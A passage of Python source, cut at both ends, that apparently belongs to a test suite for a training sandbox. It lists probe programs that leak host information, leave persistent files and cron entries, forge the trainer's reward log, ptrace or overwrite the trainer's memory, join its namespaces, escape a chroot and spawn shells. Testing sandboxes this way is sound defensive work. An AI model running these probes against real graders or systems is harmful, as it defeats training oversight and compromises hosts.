  _try(
    'network interfaces',
    'leak',
    """
    return any(name != 'lo' for _, name in socket.if_nameindex())
    """,
  ),
  _try(
    'netlink',
    'leak',
    """
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
      s.settimeout(1)
      s.bind((0, 0))
      s.send(struct.pack('IHHIIBBHiII', 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0, 0))
      return re.search(rb'(eth|en[osp]|ib|ifb|wl)\\w+\\0', s.recv(65536))
    """,
  ),
  _try(
    'raw sockets',
    'leak',
    """
    for family, kind, protocol in (
      (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
      (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
      (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    ):
      try:
        return socket.socket(family, kind, protocol)
      except OSError:
        continue
    """,
  ),
  _try(
    'a server',
    'leak',
    """
    # Binding the trainer's own address fails, where it is the same network.
    with socket.socket() as s:
      try:
        s.bind(('127.0.0.1', PORT))
      except OSError as e:
        return e.errno == errno.EADDRINUSE
    """,
  ),
  _try(
    'watching a folder',
    'leak',
    """
    watch = kernel('inotify_init1', 0)
    return kernel('inotify_add_watch', watch, PATH.encode(), 0xFFF) > 0
    """,
  ),
  _try(
    'accelerators',
    'leak',
    """
    for path in glob.glob('/dev/nvidia*') + glob.glob('/dev/accel*'):
      os.close(os.open(path, os.O_RDWR))
      return True
    """,
  ),
  _try(
    'devices of the machine',
    'leak',
    """
    harmless = ('null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx')
    for path in glob.glob('/dev/*'):
      try:
        # Terminals and watchdogs act on being opened.
        if os.path.basename(path) not in harmless and re.search(
          'mem$|kmsg|kvm|fuse|userfaultfd|sd[a-z]$|vd[a-z]$|nvme', path
        ):
          os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
          return True
      except OSError:
        continue
    """,
  ),
)


# --- persist: what stays behind ---------------------------------------------


def _twice(name: str, body: str) -> Attack:
  """An attack whose later run looks for what the earlier one left."""
  return _try(name, 'persist', body, runs=2)


_PERSIST = (
  _twice(
    'file in the working directory',
    """
    if os.path.exists(f'{TOKEN}-here'):
      return True
    open(f'{TOKEN}-here', 'w').close()
    """,
  ),
  _twice(
    'files in common folders',
    """
    places = ('/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', PATH)
    paths = [f'{place}/{TOKEN}-left' for place in places]
    if any(os.path.exists(path) for path in paths):
      return True
    for path in paths:
      try:
        open(path, 'w').close()
      except OSError:
        continue
    """,
  ),
  _twice(
    'file at home',
    """
    for home in {os.path.expanduser('~'), '/root', os.getcwd()}:
      try:
        with open(f'{home}/.{TOKEN}', 'x') as file:
          file.write('# a line of .bashrc')
      except FileExistsError:
        return True
      except OSError:
        continue
    """,
  ),
  _twice(
    'code in the Python installation',
    """
    paths = sysconfig.get_paths()
    for name in ('purelib', 'platlib', 'stdlib', 'scripts'):
      try:
        with open(f'{paths[name]}/{TOKEN}.pth', 'x') as file:
          file.write('# import something\\n')
      except FileExistsError:
        return True
      except OSError:
        continue
    """,
  ),
  _try(
    'an installed module opened to write',
    'persist',
    """
    # It is only opened: what is there stays as it is.
    for path in (os.__file__, json.__file__, json.__cached__):
      try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return True
      except OSError:
        continue
    """,
  ),
  _twice(
    'compiled code in a cache',
    """
    folder = os.path.dirname(os.__file__)
    try:
      open(f'{folder}/__pycache__/{TOKEN}.cpython-311.pyc', 'xb').close()
    except FileExistsError:
      return True
    """,
  ),
  _twice(
    'a job for later',
    """
    for folder in ('/etc/cron.d', '/var/spool/cron', '/etc/profile.d', '/etc'):
      try:
        # Nothing runs it: the dot makes cron and shells pass it over.
        with open(f'{folder}/{TOKEN}.off', 'x') as file:
          file.write('# * * * * * root true\\n')
      except FileExistsError:
        return True
      except OSError:
        continue
    """,
  ),
  _try(
    'file in the repository',
    'persist',
    "open(f'@REPOSITORY@/tests/conftest_{TOKEN}.txt', 'w').close()",
  ),
  _try('new file', 'persist', "open(f'{PATH}/new', 'w').close()"),
  _try(
    'new file by openat2',
    'persist',
    """
    how = struct.pack('3Q', os.O_WRONLY | os.O_CREAT, 0o600, 0)
    kernel('openat2', -100, f'{PATH}/openat2'.encode(), how, 24)
    """,
  ),
  _try(
    'file without a name, then linked',
    'persist',
    """
    fd = os.open(PATH, os.O_TMPFILE | os.O_RDWR, 0o600)
    # Given a folder, Python follows the link of /proc.
    os.link(f'/proc/self/fd/{fd}', f'{PATH}/linked', src_dir_fd=fd)
    """,
  ),
  _try(
    'new file by descriptor of a folder',
    'persist',
    """
    folder = os.open(PATH, os.O_RDONLY | os.O_DIRECTORY)
    os.close(os.open('beneath', os.O_CREAT | os.O_WRONLY, dir_fd=folder))
    """,
  ),
  _try(
    'new file from another folder',
    'persist',
    """
    os.chdir(PATH)
    open('relative', 'w').close()
    """,
  ),
  _try('append', 'persist', "open(f'{PATH}/keep', 'a').write('x')"),
  _try(
    'emptied on opening',
    'persist',
    "os.close(os.open(f'{PATH}/keep', os.O_RDONLY | os.O_TRUNC))",
  ),
  _try('truncate', 'persist', "os.truncate(f'{PATH}/keep', 1)"),
  _try(
    'a map of a file',
    'persist',
    """
    fd = os.open(f'{PATH}/keep', os.O_RDWR)
    mmap.mmap(fd, 0)[:4] = b'gone'
    """,
  ),
  _try('removed file', 'persist', "os.remove(f'{PATH}/doomed')"),
  _try('removed folder', 'persist', "os.rmdir(f'{PATH}/empty')"),
  _try(
    'moved file',
    'persist',
    "os.rename(f'{PATH}/moved', f'{PATH}/empty/moved')",
  ),
  _try('new folder', 'persist', "os.mkdir(f'{PATH}/folder')"),
  _try('symbolic link', 'persist', "os.symlink(SECRET, f'{PATH}/link')"),
  _try('hard link', 'persist', "os.link(SECRET, f'{PATH}/hard')"),
  _try('named pipe', 'persist', "os.mkfifo(f'{PATH}/pipe')"),
  _try(
    'socket in a folder',
    'persist',
    "socket.socket(socket.AF_UNIX).bind(f'{PATH}/bound')",
  ),
  _try(
    'device node',
    'persist',
    """
    os.mknod(f'{PATH}/null', 0o666 | 0o020000, os.makedev(1, 3))
    """,
  ),
  _try('mode', 'persist', "os.chmod(f'{PATH}/keep', 0o4777)"),
  _try(
    'owner', 'persist', "os.chown(f'{PATH}/keep', os.getuid(), os.getgid())"
  ),
  _try('times', 'persist', "os.utime(f'{PATH}/keep', (1, 1))"),
  _try(
    'extended attribute',
    'persist',
    "os.setxattr(f'{PATH}/keep', 'user.mine', b'1')",
  ),
  _twice(
    'a lock that a daemon holds',
    """
    def hold():
      close_streams()
      file = os.open(f'{PATH}/keep', os.O_RDONLY)
      fcntl.flock(file, fcntl.LOCK_EX)
      linger()

    try:
      with open(f'{PATH}/keep') as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
      return True
    child(hold)
    time.sleep(0.3)
    """,
  ),
  _try(
    'core file',
    'persist',
    """
    os.chdir(PATH)
    resource.setrlimit(resource.RLIMIT_CORE, (64 * MIB, 64 * MIB))
    os.abort()
    """,
  ),
  _twice(
    'System V shared memory',
    """
    try:
      kernel('shmget', KEY, 4096, 0)
      return True
    except OSError:
      kernel('shmget', KEY, 4096, 0o1666)
    """,
  ),
  _twice(
    'System V semaphores and messages',
    """
    try:
      kernel('msgget', KEY, 0)
      return True
    except OSError:
      kernel('semget', KEY, 1, 0o1666)
      kernel('msgget', KEY, 0o1666)
    """,
  ),
  _twice(
    'POSIX shared memory',
    """
    path = f'/{TOKEN}'.encode()
    if LIBC.shm_open(path, os.O_RDWR, 0o600) >= 0:
      return True
    LIBC.shm_open(path, os.O_RDWR | os.O_CREAT, 0o666)
    """,
  ),
  _twice(
    'POSIX message queue',
    """
    try:
      kernel('mq_open', TOKEN.encode(), os.O_RDWR, 0, None)
      return True
    except OSError:
      flags = os.O_RDWR | os.O_CREAT
      kernel('mq_open', TOKEN.encode(), flags, 0o666, None)
    """,
  ),
  _twice(
    'key in a keyring',
    """
    user_keyring, search = -4, 10
    name = TOKEN.encode()
    try:
      return kernel('keyctl', search, user_keyring, b'user', name, 0) > 0
    except OSError:
      kernel('add_key', b'user', name, b'left', 4, user_keyring)
    """,
  ),
  _twice(
    'server under an abstract name',
    """
    def serve():
      close_streams()
      s = socket.socket(socket.AF_UNIX)
      s.bind(f'\\0{TOKEN}')
      s.listen()
      linger()

    with socket.socket(socket.AF_UNIX) as s:
      if s.connect_ex(f'\\0{TOKEN}') == 0:
        return True
    child(serve)
    time.sleep(0.3)
    """,
  ),
  _twice(
    'interpreter of the next run',
    """
    if hasattr(builtins, TOKEN) or TOKEN in os.environ or TOKEN in sys.modules:
      return True
    setattr(builtins, TOKEN, 1)
    os.environ[TOKEN] = '1'
    sys.modules[TOKEN] = sys
    """,
  ),
  _twice(
    'module of the next run',
    """
    if TOKEN in repr(json.dumps.__defaults__) or hasattr(json, TOKEN):
      return True
    setattr(json, TOKEN, 1)
    sys.path.append(PATH)
    """,
  ),
  _twice(
    'thread into the next run',
    """
    if any(thread.name == TOKEN for thread in threading.enumerate()):
      return True
    work = lambda: time.sleep(1)
    threading.Thread(target=work, name=TOKEN, daemon=True).start()
    """,
  ),
  _twice(
    'input of the next run',
    """
    if TOKEN.encode() in os.pread(0, 4096, 0):
      return True
    fd = os.open('/proc/self/fd/0', os.O_RDWR)
    for target in (0, fd):
      try:
        os.pwrite(target, TOKEN.encode(), 0)
      except OSError:
        continue
    """,
  ),
  _twice(
    'position in the input of the next run',
    """
    if os.lseek(0, 0, os.SEEK_CUR):
      return True
    os.lseek(0, 77, os.SEEK_SET)
    """,
  ),
  _twice(
    'descriptor of the next run',
    """
    # A socket to itself, put into the channel of a worker that lives on.
    for fd in range(3, 64):
      try:
        if b'left-' + TOKEN.encode() in os.pread(fd, 100, 0):
          return True
        os.pwrite(fd, b'left-' + TOKEN.encode(), 0)
      except OSError:
        continue
    """,
  ),
  _twice(
    'limits of the parent',
    """
    kind = resource.RLIMIT_MSGQUEUE
    soft, hard = resource.getrlimit(kind)
    if soft == 4242:
      return True
    resource.prlimit(os.getppid(), kind, (4242, hard))
    """,
  ),
  _twice(
    'priority of the parent',
    """
    nice = os.getpriority(os.PRIO_PROCESS, 0)
    if nice == 17:
      return True
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 17)
    """,
  ),
  _try(
    'log of the trainer written to',
    'persist',
    """
    if b'trainer log ' + TOKEN.encode() in os.pread(FD, 4096, 0):
      return os.write(FD, b'reward 1.0\\n')
    """,
  ),
  _try(
    'log of the trainer truncated',
    'persist',
    """
    if b'trainer log ' + TOKEN.encode() in os.pread(FD, 4096, 0):
      os.ftruncate(FD, 10)
      return True
    """,
  ),
  _try(
    'log of the trainer rewound',
    'persist',
    """
    if b'trainer log ' + TOKEN.encode() in os.pread(FD, 4096, 0):
      os.lseek(FD, 0, os.SEEK_SET)
      return True
    """,
  ),
  _try(
    'log of the trainer by its path',
    'persist',
    "open(os.path.dirname(PATH) + '/log', 'r+').write('step 1 reward 1.0')",
  ),
  _try(
    'streams of the trainer set not to block',
    'persist',
    """
    # Flags belong to what is open, not to who opened it.
    for fd in [*range(3), FD]:
      try:
        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK | os.O_APPEND)
      except OSError:
        continue
    """,
  ),
  _try(
    'mount',
    'persist',
    """
    at = f'{PATH}/empty'.encode()
    kernel('mount', TOKEN.encode(), at, b'tmpfs', 0, b'size=1m')
    return True
    """,
  ),
  _try(
    'group of the kernel',
    'persist',
    """
    for folder, _, _ in os.walk('/sys/fs/cgroup'):
      if folder.count('/') < 6:
        try:
          os.mkdir(f'{folder}/{TOKEN}')
          os.rmdir(f'{folder}/{TOKEN}')
          return True
        except OSError:
          continue
    """,
  ),
)


# --- escape: powers that a program must not have, and acts against the traine


def _signal(name: str, body: str) -> Attack:
  """Sends SIGUSR1, or what the trainer counts, in a way of its own."""
  return _try(f'signal: {name}', 'escape', body)


_INFO = (
  "info = struct.pack('3i4x3i', 10, 0, -1, os.getpid(), 0, 0) + bytes(100)"
)

_ESCAPE = (
  _signal('kill', 'os.kill(PID, signal.SIGUSR1)\nreturn True'),
  _signal(
    'kill the group',
    """
    # Ignored by default: others of the group are not to be hurt.
    os.killpg(os.getpgid(PID), signal.SIGURG)
    return True
    """,
  ),
  _signal(
    'kill whom one may',
    """
    # Signal 0 asks and does not act. The judge's own init does not count.
    os.kill(-1, 0)
    return True
    """,
  ),
  _signal(
    'kill the own group',
    """
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    """,
  ),
  _signal(
    'kill the parent',
    """
    os.kill(os.getppid(), signal.SIGTERM)
    return os.getppid() == PID
    """,
  ),
  _signal('tkill', "return kernel('tkill', PID, 10) == 0"),
  _signal('tgkill', "return kernel('tgkill', PID, PID, 10) == 0"),
  _signal(
    'rt_sigqueueinfo',
    f"{_INFO}\nreturn kernel('rt_sigqueueinfo', PID, 10, info) == 0",
  ),
  _signal(
    'rt_tgsigqueueinfo',
    f"{_INFO}\nreturn kernel('rt_tgsigqueueinfo', PID, PID, 10, info) == 0",
  ),
  _signal(
    'pidfd',
    """
    signal.pidfd_send_signal(os.pidfd_open(PID), signal.SIGUSR1)
    return True
    """,
  ),
  _signal(
    'owner of a pipe',
    """
    read_end, write_end = os.pipe()
    fcntl.fcntl(read_end, fcntl.F_SETOWN, PID)
    fcntl.fcntl(read_end, fcntl.F_SETSIG, signal.SIGUSR1)
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write_end, b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a pipe, the other call',
    """
    set_own_ex, a_process = 15, 1
    read_end, write_end = os.pipe()
    owner = struct.pack('ii', a_process, PID)
    fcntl.fcntl(read_end, set_own_ex, owner)
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    fcntl.fcntl(read_end, fcntl.F_SETSIG, signal.SIGUSR1)
    os.write(write_end, b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a socket',
    """
    # SIGIO ends whom it is sent to, unless they catch it.
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair()
      fcntl.ioctl(one, FIOSETOWN, struct.pack('i', pid))
      fcntl.ioctl(one, FIOASYNC, struct.pack('i', 1))
      other.send(b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'group of a socket',
    """
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair()
      fcntl.ioctl(one, SIOCSPGRP, struct.pack('i', pid))
      fcntl.ioctl(one, FIOASYNC, struct.pack('i', 1))
      other.send(b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a socket, by words of 64 bits',
    """
    # The kernel reads 32.
    high = 1 << 32
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair()
      kernel('ioctl', one.fileno(), high | FIOSETOWN, struct.pack('i', pid))
      kernel('ioctl', one.fileno(), high | FIOASYNC, struct.pack('i', 1))
      other.send(b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a socket, then its flags',
    """
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair()
      fcntl.ioctl(one, FIOSETOWN, struct.pack('i', pid))
      flags = fcntl.fcntl(one, fcntl.F_GETFL)
      fcntl.fcntl(one, fcntl.F_SETFL, flags | os.O_ASYNC)
      other.send(b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a pipe, then a request',
    """
    for pid in (PID, os.getppid()):
      read_end, write_end = os.pipe()
      fcntl.fcntl(read_end, fcntl.F_SETOWN, pid)
      fcntl.ioctl(read_end, FIOASYNC, struct.pack('i', 1))
      os.write(write_end, b'.')
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of datagrams',
    """
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
      fcntl.ioctl(one, FIOSETOWN, struct.pack('i', pid))
      fcntl.ioctl(one, FIOASYNC, struct.pack('i', 1))
      for _ in range(5):
        other.send(b'.')
        one.recv(1)
    time.sleep(0.2)
    """,
  ),
  _signal(
    'urgent data',
    """
    one, other = socket.socketpair()
    fcntl.ioctl(one, FIOSETOWN, struct.pack('i', PID))
    other.send(b'.', socket.MSG_OOB)
    time.sleep(0.2)
    """,
  ),
  _signal(
    'owner of a socket that hangs up',
    """
    for pid in (PID, os.getppid()):
      one, other = socket.socketpair()
      fcntl.ioctl(one, FIOSETOWN, struct.pack('i', pid))
      fcntl.ioctl(one, FIOASYNC, struct.pack('i', 1))
      other.close()
    time.sleep(0.2)
    """,
  ),
  _signal(
    'change of a folder',
    """
    a_new_file, a_kind = 4, signal.SIGUSR1
    folder = os.open(PATH, os.O_RDONLY)
    fcntl.fcntl(folder, fcntl.F_SETOWN, PID)
    fcntl.fcntl(folder, fcntl.F_SETSIG, a_kind)
    fcntl.fcntl(folder, fcntl.F_NOTIFY, a_new_file)
    open(f'{PATH}/noticed', 'w').close()
    time.sleep(0.2)
    """,
  ),
  _signal(
    'timer of a thread of others',
    """
    thread_id, own = 4, threading.get_native_id()
    # The first must work: else the second proves nothing.
    for thread in (own, PID):
      event = struct.pack('Qiii', 0, signal.SIGURG, thread_id, thread)
      timer = bytearray(8)
      place = (ctypes.c_char * 8).from_buffer(timer)
      kernel('timer_create', 1, event + bytes(44), place)
      if thread == own:
        continue
      soon = struct.pack('4Q', 0, 0, 0, 1000)
      kernel('timer_settime', *struct.unpack('i', timer[:4]), 0, soon, None)
      time.sleep(0.2)
      return True
    """,
  ),
  _signal(
    'by 32-bit code',
    """
    if X86:
      code = b'S\\xb8' + struct.pack('I', 37) + b'\\xbb' + struct.pack('I', PID)
      code += b'\\xb9' + struct.pack('I', 10) + b'\\xcd\\x80[\\xc3'
      page = mmap.mmap(-1, 4096, prot=7)
      page.write(code)
      start = ctypes.addressof(ctypes.c_char.from_buffer(page))
      return ctypes.CFUNCTYPE(ctypes.c_int)(start)() == 0
    """,
  ),
  _signal(
    'by the x32 table',
    """
    if X86:
      x32 = 0x40000000
      return LIBC.syscall(ctypes.c_long(x32 + 62), PID, 10) == 0
    """,
  ),
  _signal(
    'by a child of another session',
    """
    def work():
      os.setsid()
      os.kill(PID, signal.SIGUSR1)

    os.waitpid(child(work), 0)
    """,
  ),
  _try(
    'limits of the trainer',
    'escape',
    """
    soft, hard = resource.prlimit(PID, resource.RLIMIT_NOFILE)
    resource.prlimit(PID, resource.RLIMIT_NOFILE, (soft - 1, hard))
    return True
    """,
  ),
  _try(
    'cores of the trainer',
    'escape',
    """
    os.sched_setaffinity(PID, [min(os.sched_getaffinity(PID))])
    return True
    """,
  ),
  _try(
    'priority of the trainer',
    'escape',
    """
    os.setpriority(os.PRIO_PROCESS, PID, 3)
    return os.getpriority(os.PRIO_PROCESS, PID) == 3
    """,
  ),
  _try(
    'priority of the group of the trainer',
    'escape',
    """
    os.setpriority(os.PRIO_PGRP, os.getpgid(PID), 4)
    return True
    """,
  ),
  _try(
    'scheduler of the trainer',
    'escape',
    """
    os.sched_setscheduler(PID, os.SCHED_BATCH, os.sched_param(0))
    return os.sched_getscheduler(PID) == os.SCHED_BATCH
    """,
  ),
  _try(
    'input and output of the trainer',
    'escape',
    """
    best_effort = 2 << 13
    return kernel('ioprio_set', 1, PID, best_effort | 7) == 0
    """,
  ),
  _try(
    'trainer first to be killed without memory',
    'escape',
    """
    with open(f'/proc/{PID}/oom_score_adj', 'w') as file:
      file.write('500')
    return True
    """,
  ),
  _try(
    'cores shared with nobody but the trainer',
    'escape',
    """
    core_scheduling, create = 62, 1
    for pid in (PID, os.getppid()):
      try:
        return kernel('prctl', core_scheduling, create, pid, 0, 0) == 0
      except OSError:
        continue
    """,
  ),
  _try(
    'settings of a terminal',
    'escape',
    """
    # All but the first are refused whatever is there to be set.
    for request in (0x5402, 0x5410, 0x5422, 0x5423, 0x40045436, 0x5437):
      for fd in range(3):
        try:
          fcntl.ioctl(fd, request, bytes(64))
        except OSError as e:
          if e.errno not in (errno.EPERM, errno.EBADF):
            return True
    """,
  ),
  _try(
    'memory of the trainer written',
    'escape',
    """
    here, local, remote = vectors(ADDRESS + 64, 5)
    here.raw = b'PWNED'
    return kernel('process_vm_writev', PID, local, 1, remote, 1, 0) == 5
    """,
  ),
  _try(
    'memory of the trainer written by file',
    'escape',
    """
    fd = os.open(f'/proc/{PID}/mem', os.O_RDWR)
    return os.pwrite(fd, b'PWNED', ADDRESS + 64) == 5
    """,
  ),
  _try(
    'memory of the trainer written by ptrace',
    'escape',
    """
    attach, poke, detach, any_child = 16, 5, 17, 0x40000000
    kernel('ptrace', attach, PID, 0, 0)
    os.waitpid(PID, any_child)
    kernel('ptrace', poke, PID, ADDRESS + 64, 0x4E5750)
    kernel('ptrace', detach, PID, 0, 0)
    return True
    """,
  ),
  _try(
    'trainer seized',
    'escape',
    """
    # Without stopping it; the end of this process lets it go.
    return kernel('ptrace', 0x4206, PID, 0, 0) == 0
    """,
  ),
  _try(
    'memory of the trainer advised on',
    'escape',
    """
    cold = 20
    page = struct.pack('QQ', ADDRESS & ~4095, 4096)
    return kernel('process_madvise', os.pidfd_open(PID), page, 1, cold, 0) > 0
    """,
  ),
  _try(
    'descriptor taken from the trainer',
    'escape',
    """
    fd = kernel('pidfd_getfd', os.pidfd_open(PID), FD, 0)
    return b'trainer log ' + TOKEN.encode() in os.pread(fd, 4096, 0)
    """,
  ),
  _try(
    'comparison with the trainer',
    'escape',
    "return kernel('kcmp', PID, os.getpid(), 1, 0, 0) >= 0",
  ),
  _try(
    'namespaces of the trainer',
    'escape',
    """
    for name in ('net', 'ipc', 'uts', 'mnt'):
      try:
        fd = os.open(f'/proc/{PID}/ns/{name}', os.O_RDONLY)
        return kernel('setns', fd, 0) == 0
      except OSError:
        continue
    return kernel('setns', os.pidfd_open(PID), 0x40000000) == 0
    """,
  ),
  _try(
    'own user namespace',
    'escape',
    "return kernel('unshare', 0x10000000) == 0",
  ),
  _try(
    'own namespaces by clone',
    'escape',
    """
    new_user, new_net = 0x10000000, 0x40000000
    how = (new_user | new_net | signal.SIGCHLD, 0, 0, 0, 0)
    child(mark, lambda: kernel('clone', *how))
    return True
    """,
  ),
  _try(
    'own namespaces by clone3',
    'escape',
    """
    how = struct.pack('8Q', 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child(mark, lambda: kernel('clone3', how, 64))
    return True
    """,
  ),
  _try(
    'root in a namespace, then mount',
    'escape',
    """
    def work():
      new_user, new_mount, private = 0x10000000, 0x20000, 0x44000
      uid = os.getuid()
      kernel('unshare', new_user | new_mount)
      with open('/proc/self/uid_map', 'w') as file:
        file.write(f'0 {uid} 1')
      kernel('mount', None, b'/', None, private, None)
      kernel('mount', b'none', b'/mnt', b'tmpfs', 0, None)
      os.write(write_end, b'.')

    read_end, write_end = os.pipe()
    child(work)
    return select.select([read_end], [], [], 1)[0]
    """,
  ),
  _try('chroot', 'escape', "return kernel('chroot', PATH.encode()) == 0"),
  _try(
    'chroot left by ..',
    'escape',
    """
    outside = os.open('/', os.O_RDONLY)
    os.chroot('/usr')
    os.fchdir(outside)
    for _ in range(20):
      os.chdir('..')
    os.chroot('.')
    return secret_in(read(SECRET))
    """,
  ),
  _try(
    'exec',
    'escape',
    """
    for program in ('/bin/echo', '/usr/bin/echo', '/bin/busybox'):
      try:
        os.execv(program, ['echo', 'PWNED', TOKEN])
      except OSError:
        continue
    """,
  ),
  _try(
    'exec of Python',
    'escape',
    """
    code = f"print('PWNED', '{TOKEN}')"
    os.execv(sys.executable, [sys.executable, '-c', code])
    """,
  ),
  _try('shell', 'escape', "return os.system('exit 0') == 0"),
  _try(
    'subprocess',
    'escape',
    """
    import subprocess

    return subprocess.run(['/bin/true']).returncode == 0
    """,
  ),
  _try(
    'posix_spawn',
    'escape',
    """
    pid = os.posix_spawn('/bin/true', ['true'], {})
    return os.waitpid(pid, 0)[1] == 0
    """,
  ),
  _try(
    'exec by the loader',
    'escape',
    """
    for loader in glob.glob('/lib*/ld-linux*') + glob.glob('/lib/*/ld-linux*'):
      os.execv(loader, [loader, '/bin/echo', 'PWNED', TOKEN])
    """,
  ),
  _try(
    'exec by descriptor',
    'escape',
    """
    fd = os.open('/bin/echo', os.O_RDONLY)
    words = (ctypes.c_char_p * 4)(b'echo', b'PWNED', TOKEN.encode(), None)
    at_empty_path = 0x1000
    kernel('execveat', fd, b'', words, None, at_empty_path)
    """,
  ),
  _try(
    'exec of own machine code',
    'escape',
    """
    if not X86:
      return False
    text = f'PWNED {TOKEN}\\n'.encode()
    # write(1, text, size), exit(0).
    code = bytes.fromhex('b801000000bf01000000488d3510000000ba')
    code += struct.pack('I', len(text))
    code += bytes.fromhex('0f05b83c00000031ff0f05')
    base, size = 0x400000, 120 + len(code) + len(text)
    head = struct.pack(
      '<16s2HI3QI6H', b'\\x7fELF\\2\\1\\1', 2, 62, 1, base + 120, 64, 0, 0,
      64, 56, 1, 0, 0, 0,
    )
    head += struct.pack('<2I6Q', 1, 5, 0, base, base, size, size, 4096)
    fd = os.memfd_create(TOKEN)
    os.write(fd, head + code + text)
    os.execve(fd, ['code'], {})
    """,
  ),
  _try(
    'io_uring',
    'escape',
    "return kernel('io_uring_setup', 8, bytes(120)) >= 0",
  ),
  _try(
    'bpf',
    'escape',
    """
    an_array = struct.pack('4I', 2, 4, 4, 1) + bytes(56)
    return kernel('bpf', 0, an_array, len(an_array)) >= 0
    """,
  ),
  _try(
    'userfaultfd',
    'escape',
    """
    for flags in (0, 1):
      try:
        return kernel('userfaultfd', flags) >= 0
      except OSError:
        continue
    return os.open('/dev/userfaultfd', os.O_RDWR) >= 0
    """,
  ),
  _try(
    'perf events',
    'escape',
    """
    clock = struct.pack('2I5Q', 1, 64, 0, 0, 0, 0, 0b1100001) + bytes(16)
    for pid in (PID, 0):
      try:
        return kernel('perf_event_open', clock, pid, -1, -1, 0) >= 0
      except OSError:
        continue
    """,
  ),
  _try(
    'keyrings',
    'escape',
    """
    join_session = 1
    return kernel('keyctl', join_session, None, 0, 0, 0) > 0
    """,
  ),
  _try(
    'fanotify',
    'escape',
    "return kernel('fanotify_init', 0x200, os.O_RDONLY) >= 0",
  ),
  _try(
    'odd socket families',
    'escape',
    """
    # Crypto, virtual machines, TIPC, packets: seldom used, often broken.
    for family in (38, 40, 30, 17, 44, 39):
      for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_RAW):
        try:
          return socket.socket(family, kind)
        except OSError:
          continue
    """,
  ),
  _try(
    'kernel modules',
    'escape',
    "return gets_through('finit_module', -1, b'', 0)",
  ),
  _try(
    'swap',
    'escape',
    "return gets_through('swapon', b'/nonexistent', 0)",
  ),
  _try('ports of the machine', 'escape', "return kernel('iopl', 3) == 0"),
  _try(
    'host name',
    'escape',
    """
    name = os.uname().nodename.encode()
    return kernel('sethostname', name, len(name)) == 0
    """,
  ),
  _try(
    'settings of the kernel',
    'escape',
    """
    # Writes back what is there.
    for name in ('kernel/core_pattern', 'vm/overcommit_memory'):
      with open(f'/proc/sys/{name}', 'r+') as file:
        value = file.read()
        file.seek(0)
        file.write(value)
      return True
    """,
  ),
  _try(
    'triggers of the kernel',
    'escape',
    """
    # Opening is enough to know; what is written there acts at once.
    for path in (
      '/proc/sysrq-trigger', '/sys/power/state', '/sys/kernel/uevent_helper',
      '/sys/fs/cgroup/release_agent',
    ):
      try:
        os.close(os.open(path, os.O_WRONLY))
        return True
      except OSError:
        continue
    """,
  ),
  _try(
    'own memory that is read-only',
    'escape',
    """
    private, anonymous = 2, 0x20
    LIBC.mmap.restype = ctypes.c_void_p
    page = LIBC.mmap(None, 4096, mmap.PROT_READ, private | anonymous, -1, 0)
    fd = os.open('/proc/self/mem', os.O_RDWR)
    return os.pwrite(fd, b'PWNED', page) == 5
    """,
  ),
  _try(
    'typing into the terminal',
    'escape',
    """
    for path in (0, 1, 2, '/dev/tty'):
      try:
        fd = path if isinstance(path, int) else os.open(path, os.O_RDWR)
        fcntl.ioctl(fd, 0x5412, b' ')
        return True
      except OSError:
        continue
    """,
  ),
  _try(
    'another user',
    'escape',
    """
    for uid in (0, 1, 1000, 65534):
      if uid != os.getuid():
        try:
          os.setresuid(uid, uid, uid)
          return True
        except OSError:
          continue
    """,
  ),
  _try(
    'another group',
    'escape',
    """
    os.setgroups([1, 6])
    return True
    """,
  ),
  _called('call: shell', 'escape', "return os.system('exit 0') == 0"),
  _called('call: a secret file', 'leak', 'return secret_in(read(SECRET))'),
  _called(
    'call: file left',
    'persist',
    "open(f'{PATH}/called', 'w').close()\nreturn True",
  ),
)

ATTACKS: tuple[Attack, ...] = (
  *_FORGE,
  *_FORGE_CALLS,
  *_STARVE,
  *_LEAK,
  *_PERSIST,
  *_ESCAPE,
)


def chosen(*categories: str) -> list[Attack]:
  """The attacks of some categories; all where none is named."""
  return [a for a in ATTACKS if not categories or a.category in categories]


# --- self-check: every attack without a sandbox -----------------------------

_TIMEOUT_SECONDS = 14

# A judge as careless as can be: a fork of it runs the program among its own
# data, and it believes what that process says.
_CARELESS = """
import io, json, os, pickle, socket, sys

task = json.load(sys.stdin)
channel = socket.socket(fileno=int(sys.argv[1]))


def same(result, expected):
  if isinstance(expected, float):
    return abs(result - expected) <= 1e-6
  return result == expected


def grade():
  expected = task['expected']
  for _ in range(task['runs']):
    sys.stdout = io.StringIO()
    scope = {'__name__': '__main__'}
    exec(task['program'], scope)
    if 'solve' in scope:
      result = scope['solve']()
    else:
